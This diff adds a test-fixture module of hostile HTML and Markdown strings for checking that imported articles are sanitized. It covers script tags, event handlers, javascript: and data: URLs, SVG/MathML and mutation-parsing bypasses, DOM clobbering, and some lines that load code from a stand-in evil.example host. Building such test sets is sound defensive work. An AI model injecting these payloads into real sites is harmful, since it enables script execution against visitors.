@@ -1,0 +1,146 @@
+/**
+ * Attacks on whoever shows an imported article, by what they rely on. They are written for this project, so that every clone
+ * tests its safety; a larger collection is tested as well where it is at hand (`hostile.test.ts`).
+ */
+const scripts = [
+  '<script>alert(1)</script>word',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>word',
+  '<script/defer/src=x>alert(1)</script>word',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>word',
+  '<script>//--></script><script>alert(1)//',
+  '<script type="module">import "https://evil.example/x.js"</script>word',
+  '<svg><script href="data:,alert(1)"/></svg>word',
+  '<math><script>alert(1)</script></math>word',
+  '<template><script>alert(1)</script></template>word',
+  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>word',
+]
+
+const handlers = [
+  '<img src=x onerror=alert(1)>word',
+  '<img/src=x/onerror=alert(1)>word',
+  '<img src=x one rror onerror\t=\talert(1)>word',
+  '<img """><img src=x onerror="alert(1)">">word',
+  '<img src="x` `<script>alert(1)</script>"` `>word',
+  '<p onmouseover="alert(1)" style="position:fixed;inset:0">word</p>',
+  '<details open ontoggle=alert(1)><summary>word</summary></details>',
+  '<input autofocus onfocus=alert(1)>word',
+  '<video><source onerror=alert(1)></video>word',
+  '<audio src onloadstart=alert(1)>word</audio>',
+  '<marquee onstart=alert(1)>word</marquee>',
+  '<body onload=alert(1)>word',
+  '<div popover onbeforetoggle=alert(1)>word</div>',
+  '<p style="animation-name:x" onanimationend=alert(1)>word</p>',
+  '<x-part contenteditable onbeforeinput=alert(1)>word</x-part>',
+  '<p ONCLICK=alert(1)>word</p><p on\u0000click=alert(1)>word</p>',
+]
+
+const addresses = [
+  '<a href="javascript:alert(1)">word</a>',
+  '<a href="&#x6A;avascript&#58;alert(1)">word</a>',
+  '<a href="java\r\nscript:alert(1)">word</a>',
+  '<a href="\u0003javascript:alert(1)">word</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">word</a>',
+  '<a href=" vbscript:msgbox(1)">word</a>',
+  '<a href="//evil.example" ping="https://evil.example/ping" target=_self>word</a>',
+  '<area href="javascript:alert(1)" shape=default>word',
+  '<form action="javascript:alert(1)"><button>word</button></form>',
+  '<button formaction="javascript:alert(1)">word</button>',
+  '<object data="javascript:alert(1)">word</object>',
+  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">word',
+  '<iframe src="javascript:alert(1)"></iframe>word',
+  '<img srcset="javascript:alert(1) 1x, /x 2x" alt="word">',
+  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'alert(1)\'/>" alt="word">',
+  '<blockquote cite="javascript:alert(1)">word</blockquote>',
+  '<video poster="javascript:alert(1)" src="javascript:alert(2)">word</video>',
+  '<table background="javascript:alert(1)"><tr><td background="//evil.example/x">word</table>',
+]
+
+const foreign = [
+  '<svg onload=alert(1)>word',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>word</text></a></svg>',
+  '<svg><animate attributeName=href values="javascript:alert(1)" onbegin=alert(1)/></svg>word',
+  '<svg><set attributeName=onmouseover to=alert(1) /><text>word</text></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>word',
+  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>word',
+  '<math href="javascript:alert(1)">word</math>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">word</maction></math>',
+]
+
+// A second parse reads these another way than the first: what was text, or an attribute, becomes an element.
+const reparsed = [
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>word',
+  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">word',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">word</noscript>',
+  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">word',
+  '<title><p title="</title><img src=x onerror=alert(1)>">word',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">word',
+  '<noembed><i title="</noembed><img src=x onerror=alert(1)>">word',
+  '<plaintext><img src=x onerror=alert(1)>word',
+  '<!--><img src=x onerror=alert(1)>-->word',
+  '<!-- --!><img src=x onerror=alert(1)>-->word',
+  '<!--<img src="--><img src=x onerror=alert(1)//">word',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>word',
+  '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>word',
+  '<?xml version="1.0"?><?x <img src=x onerror=alert(1)>?>word',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>word',
+  '<table><td><svg><desc><table><style><img title="</style><img src=x onerror=alert(1)>">word',
+  '<select><option><style></select><img src=x onerror=alert(1)></style>word',
+  '<a title="&quot;><img src=x onerror=alert(1)>">word</a>',
+  `${'<b>'.repeat(600)}<img src=x onerror=alert(1)>word`,
+]
+
+const pageWide = [
+  '<base href="https://evil.example/">word',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">word',
+  '<link rel=stylesheet href="//evil.example/x.css">word',
+  '<style>@import "//evil.example/x.css"; p { background: url(//evil.example) }</style>word',
+  '<p style="background:url(javascript:alert(1));behavior:url(#x)">word</p>',
+  '<p id="headline" class="letter" name="location">word</p>',
+  '<form id=document><input name=cookie><input name=querySelector></form>word',
+  '<img name="body" src="x" alt="word"><a id="location" name="href">word</a>',
+  '<a id=x><a id=x name=y href="1:alert(1)">word</a>',
+  '<p slot="x" is="x-part" part="y" itemscope itemprop="headline">word</p>',
+  '<dialog open>word</dialog><fencedframe></fencedframe><portal src="//evil.example"></portal>',
+]
+
+export const hostileHtml: readonly string[] = [
+  ...scripts,
+  ...handlers,
+  ...addresses,
+  ...foreign,
+  ...reparsed,
+  ...pageWide,
+]
+
+export const hostileMarkdown: readonly string[] = [
+  '[word](javascript:alert(1))',
+  '[word](JaVaScRiPt&#58;alert(1))',
+  '[word](\tjavascript:alert(1) "title")',
+  '[word](<java\\\nscript:alert(1)>)',
+  '[word](data:text/html,<script>alert(1)</script>)',
+  '[word]: javascript:alert(1)\n\n[word]',
+  '[word]: <javascript:alert(1)> "x"\n\n![word]',
+  '<javascript:alert(1)>',
+  '![word](x"onerror="alert(1))',
+  '![word"onerror="alert(1)](/x.png)',
+  '![word](/x.png "x\\" onerror=\\"alert(1)")',
+  '[word](/x "x&quot; onclick=&quot;alert(1)")',
+  '[<img src=x onerror=alert(1)>](/x)',
+  '[![word](javascript:alert(1))](vbscript:alert(1))',
+  '`<script>alert(1)</script>` word',
+  '```html\n</code></pre><script>alert(1)</script>\nword\n```',
+  '~~~\nword\n<img src=x onerror=alert(1)>',
+  '<script\n>alert(1)\n</script\n>\n\nword',
+  '<img\nsrc=x\nonerror=alert(1)>\nword',
+  '<div markdown=1>\n\n<p onclick=alert(1)>word\n\n</div>',
+  '> <svg onload=alert(1)>\n\nword',
+  '- word\n  <iframe src=javascript:alert(1)>',
+  '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | word |',
+  '# <a id=location name=href>word</a>',
+  '\\<script>alert(1)</script> word',
+  '&lt;script&gt;alert(1)&lt;/script&gt; word',
+  '&#60;img src=x onerror=alert(1)&#62; word',
+  '<!-- --> <img src=x onerror=alert(1)> <!-- --> word',
+  '[word](https://evil.example/\u202egnp.js)',
+  '[^1]: <img src=x onerror=alert(1)>\n\nword[^1]',
+]
